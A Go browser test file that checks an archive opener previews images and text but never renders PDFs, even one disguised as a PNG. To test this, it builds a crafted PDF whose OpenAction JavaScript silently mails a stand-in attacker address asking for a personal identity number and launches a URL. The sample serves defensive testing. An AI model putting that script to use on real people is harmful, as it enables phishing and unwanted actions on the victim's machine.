package opener

import (
	"bytes"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/kuvert-app/kuvert/crypt"
)

// minimalPDF is a one-page PDF that says "Intyg 2026".
func minimalPDF() []byte { return pdfWithScript("") }

// pdfWithScript is minimalPDF, and if js is not empty, with an OpenAction
// that runs js when a viewer opens it (PDF 1.7, 12.6.4.16).
func pdfWithScript(js string) []byte {
	stream := "BT /F1 24 Tf 40 100 Td (Intyg 2026) Tj ET"
	catalog := "<< /Type /Catalog /Pages 2 0 R >>"
	if js != "" {
		catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
	}
	objs := []string{
		catalog,
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(stream), stream),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	if js != "" {
		js = strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(js)
		objs = append(objs, "<< /Type /Action /S /JavaScript /JS ("+js+") >>")
	}
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	var offs []int
	for i, o := range objs {
		offs = append(offs, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	x := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, x)
	return b.Bytes()
}

func smallPNG(t *testing.T, w, h int) []byte {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.RGBA{uint8(x), uint8(y), 120, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Files are shown in the page where the page can draw them itself: an
// image, text. (A PDF never is: TestPDFIsSaveOnly.)
func TestViewsFiles(t *testing.T) {
	files := []file{
		{"karta.png", smallPNG(t, 64, 48)},
		{"läsmig.txt", []byte("Hej!\nDet här är en textfil med å, ä och ö.\n")},
	}
	arch := seal(t, filepath.Join(t.TempDir(), "visa.zip"), files, crypt.SealOptions{})
	tb := newTab(t, tabOptions{})
	if r := tb.open(arch, testPassword, ""); r.Error != "" || len(r.Entries) != 2 {
		t.Fatalf("got %+v", r)
	}
	for i := 1; i <= 2; i++ {
		tb.run(chromedp.Click(chromedp.CSS(fmt.Sprintf(`[data-testid=entry]:nth-of-type(%d) button`, i))))
	}
	tb.poll(`(() => { const i = document.querySelector('.preview img'); return !!i && i.complete && i.naturalWidth > 0 && !!document.querySelector('.preview pre') })()`)
	type shown struct {
		ImgW     int    `json:"imgW"`
		ImgH     int    `json:"imgH"`
		Text     string `json:"text"`
		Expanded string `json:"expanded"`
	}
	got, err := chromedp.Run(tb.ctx, chromedp.Evaluate[shown](`({
		imgW: document.querySelector('.preview img').naturalWidth,
		imgH: document.querySelector('.preview img').naturalHeight,
		text: document.querySelector('.preview pre').textContent,
		expanded: document.querySelector('[data-testid=entry] button').getAttribute('aria-expanded'),
	})`))
	if err != nil {
		t.Fatal(err)
	}
	if got.ImgW != 64 || got.ImgH != 48 {
		t.Errorf("the image shows as %d×%d, want 64×48", got.ImgW, got.ImgH)
	}
	if got.Text != string(files[1].data) {
		t.Errorf("the text shows as %q", got.Text)
	}
	if got.Expanded != "true" {
		t.Errorf("the View button's aria-expanded is %q", got.Expanded)
	}
}

// A PDF is never shown by the browser's own viewer, which runs the PDF's
// scripts: this one's OpenAction calls app.mailMsg (the mail program opens
// with the PDF's recipient and text) and app.launchURL. Neither by its
// name nor disguised as a PNG (a PDF by its bytes) does it get a View
// button, a frame, an embed, an object or an application/pdf blob: URL;
// the page says to save it, and saving gives the exact bytes. (The tab's
// network check fails the test on the viewer's chrome-extension: load and
// on the mailto: the script asks for, as it did while PDFs were shown.)
func TestPDFIsSaveOnly(t *testing.T) {
	evil := pdfWithScript(`app.mailMsg({bUI: false, cTo: "angripare@example.com", cSubject: "Intyg", cMsg: "Svara med ditt personnummer"}); app.launchURL("https://example.com/", true);`)
	if !bytes.Contains(evil, []byte("/S /JavaScript /JS (app.mailMsg\\(")) {
		t.Fatalf("the crafted PDF carries no script:\n%s", evil)
	}
	files := []file{
		{"intyg.pdf", evil},
		{"intyg.png", evil},
		{"karta.png", smallPNG(t, 16, 16)},
	}
	arch := seal(t, filepath.Join(t.TempDir(), "pdf.zip"), files, crypt.SealOptions{})
	tb := newTab(t, tabOptions{})
	// Every blob: URL the page makes, with its type.
	if _, err := chromedp.Run(tb.ctx, chromedp.Evaluate[bool](`(() => {
		window.blobTypes = [];
		const make = URL.createObjectURL;
		URL.createObjectURL = (b) => { window.blobTypes.push(b.type); return make.call(URL, b); };
		return true;
	})()`)); err != nil {
		t.Fatal(err)
	}
	if r := tb.open(arch, testPassword, ""); r.Error != "" || len(r.Entries) != 3 {
		t.Fatalf("got %+v", r)
	}
	// Press every View button there is, then wait for the image.
	tb.run(chromedp.Click(chromedp.CSS(`[data-testid=entry]:nth-of-type(3) button`)))
	if _, err := chromedp.Run(tb.ctx, chromedp.Evaluate[bool](`(() => { document.querySelectorAll('[data-testid=entry] button[aria-controls]').forEach(b => { if (b.getAttribute('aria-expanded') !== 'true') b.click(); }); return true; })()`)); err != nil {
		t.Fatal(err)
	}
	tb.poll(`(() => { const i = document.querySelector('[data-testid=entry]:nth-of-type(3) .preview img'); return !!i && i.complete && i.naturalWidth > 0 })()`)
	type page struct {
		Views    []bool   `json:"views"`
		Notes    []string `json:"notes"`
		Frames   int      `json:"frames"`
		PDFBlobs int      `json:"pdfBlobs"`
		Blobs    int      `json:"blobs"`
	}
	got, err := chromedp.Run(tb.ctx, chromedp.Evaluate[page](`(() => {
		const es = [...document.querySelectorAll('[data-testid=entry]')];
		return {
			views: es.map(e => !!e.querySelector('button[aria-controls]')),
			notes: es.map(e => { const n = e.querySelector('[data-testid=pdf-note]'); return n ? n.textContent : ''; }),
			frames: document.querySelectorAll('iframe, frame, embed, object').length,
			pdfBlobs: window.blobTypes.filter(t => t === 'application/pdf').length,
			blobs: window.blobTypes.length,
		};
	})()`))
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Views) != 3 || got.Views[0] || got.Views[1] || !got.Views[2] {
		t.Errorf("View buttons %v, want none for the two PDFs and one for the image", got.Views)
	}
	for i, n := range got.Notes {
		isPDF := i < 2
		if isPDF != (strings.Contains(n, "PDF-filer visas inte") || strings.Contains(n, "PDF files are not shown")) {
			t.Errorf("entry %d: note %q (a PDF: %v)", i+1, n, isPDF)
		}
	}
	if got.Frames != 0 || got.PDFBlobs != 0 {
		t.Errorf("%d frames/embeds/objects and %d application/pdf blob: URLs, want none", got.Frames, got.PDFBlobs)
	}
	if got.Blobs < 4 {
		t.Errorf("only %d blob: URLs were recorded: the recording did not see the page's", got.Blobs)
	}
	want(t, tb.save(3), files)
}
